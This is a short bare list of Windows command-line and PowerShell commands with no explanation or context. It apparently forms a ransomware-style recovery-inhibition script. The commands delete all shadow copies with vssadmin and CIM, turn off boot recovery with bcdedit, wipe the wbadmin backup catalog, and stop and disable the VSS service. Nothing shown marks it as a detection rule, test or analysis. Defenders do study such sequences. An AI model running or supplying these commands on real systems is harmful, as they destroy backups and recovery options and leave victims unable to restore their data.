vssadmin.exe delete shadows /all /quiet
Get-CimInstance -ClassName Win32_ShadowCopy | Remove-CimInstance
bcdedit /set '{default}' recoveryenabled No
bcdedit /set '{default}' bootstatuspolicy ignoreallfailures
wbadmin delete catalog -quiet
Stop-Service -Name VSS -Force
Set-Service -Name VSS -StartupType Disabled
